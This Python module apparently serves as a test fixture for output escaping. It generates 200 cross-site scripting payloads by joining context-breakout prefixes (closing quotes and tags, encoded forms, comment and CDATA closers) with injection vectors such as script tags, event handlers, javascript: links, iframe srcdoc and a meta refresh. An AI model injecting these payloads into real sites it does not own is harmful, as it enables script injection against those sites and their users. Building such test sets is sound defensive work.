"""Two hundred texts that run a script where a page does not escape them: each vector after each way out."""

from __future__ import annotations

from typing import Final

_WAYS_OUT: Final = (
    "",
    '">',
    "'>",
    '" ',
    "' ",
    "</td>",
    "</textarea>",
    "</title>",
    "</option></select>",
    "-->",
    "]]>",
    "</script>",
    "%22%3E",
    "&quot;&gt;",
    "\\x22\\x3e",
    "\\u003c/p\\u003e",
    "{{",
    "${",
    "\u2028",
    "\x00",
)
_VECTORS: Final = (
    "<script>window.xss=1</script>",
    "<img src=x onerror=window.xss=1>",
    "<svg/onload=window.xss=1>",
    "onfocus=window.xss=1 autofocus tabindex=0",
    "<a href=javascript:window.xss=1 id=xss>x</a>",
    "<iframe srcdoc='<script>parent.xss=1</script>'></iframe>",
    "<style>*{background:url(/xss)}</style>",
    "<form action=https://example.org><button>x</button></form>",
    "<div hx-get=/console/logout hx-trigger=load>x</div>",
    "<meta http-equiv=refresh content='0;url=https://example.org'>",
)
PAYLOADS: Final = tuple(f"{way}{vector}" for way in _WAYS_OUT for vector in _VECTORS)
